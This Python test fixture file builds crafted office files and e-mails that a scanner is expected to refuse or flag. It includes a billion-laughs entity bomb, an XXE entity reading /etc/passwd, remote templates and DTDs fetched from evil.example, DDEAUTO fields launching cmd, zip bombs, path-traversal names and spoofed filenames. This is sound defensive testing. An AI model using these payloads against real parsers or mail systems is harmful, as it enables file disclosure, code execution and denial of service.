"""Office files and e-mails made to fool us, each with the check that has to say so."""

import io
import zipfile
from email.message import EmailMessage

from tests.files import mails, ole
from tests.files import office as made
from tests.files.mails import mail
from tests.files.make_files import invoice
from tests.proofs.bad import Bad

MEGABYTE = 1024 * 1024
OVERRIDE = "\N{RIGHT-TO-LEFT OVERRIDE}"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><w:document xmlns:w="w"><w:t>&c;</w:t></w:document>'
)
READS_A_FILE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
DTD_ELSEWHERE = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'


def _field(*pieces: str) -> str:
    inner = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}</w:p>'


def _zip_in_zip(levels: int) -> bytes:
    data = made.packed({"readme.txt": "Hello"})
    for level in range(levels):
        data = made.packed({f"{level}.zip": data})
    return data


def _twice() -> bytes:
    parts = made.word_parts()
    target = io.BytesIO(made.packed(parts))
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(zipfile.ZipInfo("word/Document.xml"), "<other/>")
    return target.getvalue()


def _another_name_inside() -> bytes:
    """The header before a part calls it otherwise than the directory does."""
    return made.word().replace(b"word/document.xml", b"word/documend.xml", 1)


def _macro_document() -> bytes:
    parts = {**made.word_parts(), "word/vbaProject.bin": ole.compound({"VBA": {"_VBA_PROJECT": bytes(200)}})}
    parts["[Content_Types].xml"] = made.content_types(("word/document.xml", made.MACRO_DOCUMENT))
    return made.packed(parts)


def _two_families() -> bytes:
    parts = made.word_parts()
    parts["[Content_Types].xml"] = made.content_types(
        ("word/document.xml", f"{made.TYPES}.{made.WORD}.main+xml"),
        ("xl/workbook.xml", f"{made.TYPES}.{made.EXCEL}.main+xml"),
    )
    return made.packed(parts)


def _chart_with_macros() -> bytes:
    """A presentation whose chart has its numbers in a workbook that holds macros."""
    return made.powerpoint(
        {
            "ppt/charts/_rels/chart1.xml.rels": made.relations(("package", "../embeddings/Workbook1.xlsx", "")),
            "ppt/embeddings/Workbook1.xlsx": made.excel({"xl/vbaProject.bin": b"any"}),
        }
    )


def _broken_base64() -> bytes:
    return mail({"invoice.pdf": invoice()}).replace(b"\nJVBERi0", b"\n$$$VBERi0")


def _not_whole() -> bytes:
    data = mail({"invoice.pdf": invoice()})
    return data[: data.rfind(b"\n--")]


def _hidden_name() -> bytes:
    return mail({f"invoice{OVERRIDE}fdp.exe.pdf": invoice()})


def _long_part_header() -> bytes:
    return mail({"invoice.pdf": invoice()}).replace(
        b"Content-Disposition: ", b"Content-Disposition: " + b";" * 1_000_000
    )


def _mail_holding(inner: EmailMessage) -> bytes:
    return mails.forwarded(1, inner)


def _holding_a_program() -> bytes:
    inner = mails.message()
    inner.add_attachment(b"MZ\x90\0", "application", "octet-stream", filename="setup.exe")
    return _mail_holding(inner)


def _more_than_fits() -> bytes:
    """Three levels of e-mails with 20 attachments each: none has too many, all together do."""
    inner = mails.message()
    for level in range(3):
        for number in range(20):
            inner.add_attachment(b"Note", "text", "plain", filename=f"note-{level}-{number}.txt")
        outer = mails.message()
        if level < 2:
            outer.add_attachment(inner)
            inner = outer
    return inner.as_bytes()


def _uuencoded() -> bytes:
    return mail(text="Hello\n\nbegin 644 setup.exe\n#86)C\n`\nend\n")


def _claims_more_than_it_has() -> bytes:
    """An Outlook file whose entries all say that they are as large as the file can be."""
    tree = ole.message_tree({f"{number}.txt": bytes(5_000) for number in range(20)})
    return ole.compound(tree).replace((5_000).to_bytes(8, "little"), (90_000).to_bytes(8, "little"))


def _with_a_document_inside() -> bytes:
    return ole.compound({**ole.message_tree(), "WordDocument": bytes(5_000)})


OFFICE = [
    Bad("part of zeros", "bomb.docx", lambda: made.word({"word/a.xml": bytes(20 * MEGABYTE)}), "refused", "office"),
    Bad("sizes that lie", "bomb.docx", made.lying_about_sizes, "refused", "office"),
    Bad("overlapping entries", "bomb.docx", made.overlapping, "refused", "office"),
    Bad("6,000 parts", "many.docx", lambda: made.word({f"w/{n}.bin": b"" for n in range(6_000)}), "refused", "office"),
    Bad("archive in the archive", "in.docx", lambda: made.word({"word/a.bin": _zip_in_zip(1)}), "refused", "office"),
    Bad("archives in archives", "in.docx", lambda: made.word({"word/a.bin": _zip_in_zip(9)}), "refused", "office"),
    Bad(
        "documents in documents", "in.docx",
        lambda: made.word({"a.docx": made.word({"b.docx": made.word()})}), "refused", "office",
    ),
    Bad("billion laughs", "laughs.docx", lambda: made.word({"word/a.xml": LAUGHS}), "refused", "office"),
    Bad(
        "billion laughs in UTF-16", "laughs.odt",
        lambda: made.open_document(extra={"styles.xml": LAUGHS.encode("utf-16")}), "refused", "office",
    ),
    Bad("external entity", "reads.xlsx", lambda: made.excel({"xl/a.xml": READS_A_FILE}), "refused", "office"),
    Bad("document type elsewhere", "a.pptx", lambda: made.powerpoint({"a.xml": DTD_ELSEWHERE}), "refused", "office"),
    Bad("elements without end", "deep.docx", lambda: made.word({"a.xml": "<a>" * 100_000}), "refused", "office"),
    Bad("macros named .docx", "letter.docx", _macro_document, "refused", "office"),
    Bad("macros in a workbook", "list.xlsx", lambda: made.excel({"xl/vbaProject.bin": b"any"}), "refused", "office"),
    Bad("macro sheet of 1992", "list.xlsx", lambda: made.excel({"xl/macrosheets/a.xml": "<a/>"}), "refused", "office"),
    Bad("macros in slides", "a.pptx", lambda: made.powerpoint({"ppt/vbaProject.bin": b"any"}), "refused", "office"),
    Bad("macros behind a chart", "a.pptx", _chart_with_macros, "refused", "office"),
    Bad(
        "Basic in OpenDocument", "a.ods",
        lambda: made.open_document("spreadsheet", {"Basic/Standard/Module1.xml": "<a/>"}), "refused", "office",
    ),
    Bad(
        "Python in OpenDocument", "a.odt",
        lambda: made.open_document(extra={"Scripts/python/run.py": "import os"}), "refused", "office",
    ),
    Bad(
        "event that runs a macro", "a.odt",
        lambda: made.open_document(body='<script:event-listener xlink:href="vnd.sun.star.script:a?location=share"/>'),
        "refused", "office",
    ),
    Bad(
        "slide that starts a program", "a.odp",
        lambda: made.open_document("presentation", body='<presentation:event-listener presentation:action="execute"/>'),
        "refused", "office",
    ),
    Bad("program inside", "a.docx", lambda: made.word({"word/media/image1.png": b"MZ\x90\0"}), "refused", "office"),
    Bad(
        "file to be started by a double click", "a.docx",
        lambda: made.word({"word/embeddings/oleObject1.bin": ole.compound({"\1Ole10Native": bytes(90)})}),
        "refused", "office",
    ),
    Bad("ActiveX", "a.docx", lambda: made.word({"word/activeX/activeX1.xml": "<a/>"}), "refused", "office"),
    Bad("DDE field", "a.docx", lambda: made.word(body=_field('DDEAUTO "cmd" "/k calc"')), "refused", "office"),
    Bad("DDE field in pieces", "a.docx", lambda: made.word(body=_field("D", "DEA", "UTO cmd")), "refused", "office"),
    Bad("DDE spelt by numbers", "a.docx", lambda: made.word(body=_field("QUOTE 68 68 69")), "refused", "office"),
    Bad(
        "DDE in a workbook", "a.xlsx",
        lambda: made.excel({"xl/externalLinks/a.xml": '<a><ddeLink ddeService="cmd" ddeTopic="/c calc"/></a>'}),
        "refused", "office",
    ),
    Bad(
        "DDE in OpenDocument", "a.ods",
        lambda: made.open_document("spreadsheet", body="<office:dde-source/>"), "refused", "office",
    ),
    Bad(
        "remote template", "a.docx",
        lambda: made.word_relations(("attachedTemplate", "https://evil.example/a.dotm", "External")),
        "refused", "office",
    ),
    Bad(
        "remote template on a share", "a.docx",
        lambda: made.word_relations(("attachedTemplate", r"file:///\\evil.example\a.dotm", "External")),
        "refused", "office",
    ),
    Bad(
        "remote object that runs", "a.docx",
        lambda: made.word_relations(("oleObject", "mhtml:http://evil.example/a!x", "external")), "refused", "office",
    ),
    Bad("encrypted entries", "a.docx", made.locked_entry, "refused", "office"),
    Bad("encrypted by Office", "a.docx", ole.locked_office, "refused", "kind"),
    Bad(
        "encrypted OpenDocument", "a.odt",
        lambda: made.open_document(extra={"META-INF/a.xml": "<encryption-data/>"}), "refused", "office",
    ),
    Bad("PDF with an office file behind", "a.pdf", lambda: invoice() + made.word(), "refused", "kind"),
    Bad("office file behind a PDF header", "a.docx",
        lambda: made.behind_a_prefix(b"%PDF-1.4\n", made.word()), "refused", "kind"),
    Bad("office file behind other bytes", "a.docx",
        lambda: made.behind_a_prefix(b"#!/bin/sh\n", made.word()), "refused", "kind"),
    Bad("bytes behind the end", "a.docx", lambda: made.word() + b"<script>" + bytes(99), "refused", "office"),
    Bad("two archives in one", "a.docx", lambda: made.word() + made.excel(), "refused", "office"),
    Bad("bytes between the parts", "a.docx", lambda: made.room_between_parts(b"MZ" + bytes(99)), "refused", "office"),
    Bad("name twice", "a.docx", _twice, "refused", "office"),
    Bad("two names for one part", "a.docx", _another_name_inside, "refused", "office"),
    Bad("name that leaves the folder", "a.docx", lambda: made.word({"../../a.xml": "<a/>"}), "refused", "office"),
    Bad("name from the root", "a.docx", lambda: made.word({"/a.xml": "<a/>"}), "refused", "office"),
    Bad("Word named .xlsx", "a.xlsx", made.word, "refused", "kind"),
    Bad("Excel named .docx", "a.docx", made.excel, "refused", "kind"),
    Bad("Word and Excel at once", "a.docx", _two_families, "refused", "office"),
    Bad("OpenDocument of another kind", "a.odt",
        lambda: made.open_document("text", declared="spreadsheet"), "refused", "office"),
    Bad("mimetype of another kind", "a.ods", lambda: made.open_document("text"), "refused", "kind"),
    Bad("ZIP named .docx", "a.docx", lambda: made.packed({"a.txt": "Hello"}), "refused", "kind"),
    Bad("ZIP", "a.zip", lambda: made.packed({"a.txt": "Hello"}), "refused", "kind"),
    Bad("macros named as such", "a.docm", _macro_document, "refused", "office"),
    Bad("old Word", "a.doc", ole.old_word, "refused", "kind"),
    Bad("wrong checksum", "a.docx", made.checksum_wrong, "refused", "office"),
    Bad("cut off", "a.docx", lambda: made.word()[:-30], "refused", "office"),
    Bad("part that is no XML", "a.docx", lambda: made.word({"word/styles.xml": "<a><b></a>"}), "refused", "office"),
    Bad(
        "linked picture", "a.docx",
        lambda: made.word_relations(("image", "https://track.example/1.png", "External")), "clean", "office", "warning",
    ),
    Bad("linked workbook", "a.xlsx",
        lambda: made.excel({"xl/_rels/a.rels": made.relations(("externalLinkPath", "file:///C:/a.xlsx", "External"))}),
        "clean", "office", "warning"),
    Bad(
        "link to a program", "a.docx",
        lambda: made.word_relations(("hyperlink", "file:///C:/Windows/calc.exe", "External")),
        "clean", "office", "warning",
    ),
    Bad("old Word inside", "a.docx", lambda: made.word({"word/a.bin": ole.old_word()}), "clean", "office", "warning"),
    Bad("document inside", "a.docx", lambda: made.word({"word/b.docx": made.word()}), "clean", "office", "warning"),
]  # fmt: skip

MAIL = [
    Bad("no e-mail", "a.eml", lambda: b"Subject: nothing else\r\n\r\nHello", "refused", "mail"),
    Bad("cut off in the headers", "a.eml", lambda: mail()[:90], "refused", "mail"),
    Bad("page named .eml", "a.eml", lambda: b"<html><script>alert(1)</script></html>", "refused", "kind"),
    Bad("1,000 attachments", "a.eml", lambda: mail({f"{n}.txt": b"a" for n in range(1_000)}), "refused", "mail"),
    Bad("more than fits, level by level", "a.eml", _more_than_fits, "refused", "mail"),
    Bad("e-mails in e-mails", "a.eml", lambda: mails.forwarded(5), "refused", "mail"),
    Bad("e-mails in e-mails without end", "a.eml", lambda: mails.forwarded(60), "refused", "mail"),
    Bad("parts in parts without end", "a.eml", lambda: mails.nested_parts(50_000), "refused", "mail"),
    Bad("program", "a.eml", lambda: mail({"setup.exe": b"MZ\x90\0"}), "refused", "mail"),
    Bad("script", "a.eml", lambda: mail({"a.js": b"alert(1)"}), "refused", "mail"),
    Bad("shortcut", "a.eml", lambda: mail({"a.lnk": b"L\0\0\0"}), "refused", "mail"),
    Bad("page", "a.eml", lambda: mail({"a.html": b"<html>"}), "refused", "mail"),
    Bad("archive", "a.eml", lambda: mail({"a.zip": made.packed({"a.txt": "a"})}), "refused", "mail"),
    Bad("program named .ics", "a.eml", lambda: mail({"a.ics": b"MZ\x90\0"}), "refused", "mail"),
    Bad("program named .pdf", "a.eml", lambda: mail({"a.pdf": b"MZ\x90\0"}), "refused", "mail"),
    Bad("macros attached", "a.eml", lambda: mail({"a.docx": _macro_document()}), "refused", "mail"),
    Bad("program two levels down", "a.eml", _holding_a_program, "refused", "mail"),
    Bad("name turned round", "a.eml", _hidden_name, "refused", "mail"),
    Bad("name that leaves the folder", "a.eml", lambda: mail({"../../x.exe": b"a"}), "refused", "mail"),
    Bad("header without end", "a.eml", lambda: b"From: a@b.example\nSubject: " + b"a" * 9_000_000, "refused", "mail"),
    Bad("header of a part", "a.eml", _long_part_header, "refused", "mail"),
    Bad("nothing but line ends", "a.eml", lambda: mail() + b"\r\n" * 3_000_000, "refused", "mail"),
    Bad("broken base64", "a.eml", _broken_base64, "refused", "mail"),
    Bad("cut off", "a.eml", _not_whole, "refused", "mail"),
    Bad("archive behind the end", "a.eml", lambda: mail() + made.packed({"a.txt": "a"}), "refused", "kind"),
    Bad("file between the lines", "a.eml", _uuencoded, "refused", "mail"),
    Bad("old Word named .msg", "a.msg", ole.old_word, "refused", "kind"),
    Bad("Outlook cut off", "a.msg", lambda: ole.outlook({"a.txt": b"a" * 9_000})[:9_000], "refused", "mail"),
    Bad("Outlook appointment", "a.msg", lambda: ole.outlook(kind="IPM.Appointment"), "refused", "mail"),
    Bad("Outlook with a program", "a.msg", lambda: ole.outlook({"setup.exe": b"MZ\x90\0"}), "refused", "mail"),
    Bad("Outlook that lies about sizes", "a.msg", _claims_more_than_it_has, "refused", "mail"),
    Bad("Outlook and Word at once", "a.msg", _with_a_document_inside, "refused", "mail"),
    Bad("Outlook with a page behind it", "a.msg", lambda: ole.outlook() + b"<script>x</script>", "refused", "mail"),
    Bad(
        "Outlook in Outlook, with a program", "a.msg",
        lambda: ole.outlook_holding(ole.message_tree({"setup.exe": b"MZ\x90\0"})), "refused", "mail",
    ),
    Bad("Outlook named .eml", "a.eml", ole.outlook, "refused", "kind"),
    Bad("script in its page", "a.eml", lambda: mail(html="<script>alert(1)</script>"), "clean", "mail", "warning"),
    Bad("appointment attached", "a.eml", lambda: mail({"a.ics": b"BEGIN:VCALENDAR"}), "clean", "mail", "warning"),
    Bad("attachments packed by Outlook", "a.eml", lambda: mail({"winmail.dat": b"x"}), "clean", "mail", "warning"),
    Bad("Outlook in Outlook", "a.msg", lambda: ole.outlook_holding(ole.message_tree()), "clean", "mail", "warning"),
]  # fmt: skip

ROWS = [*OFFICE, *MAIL]
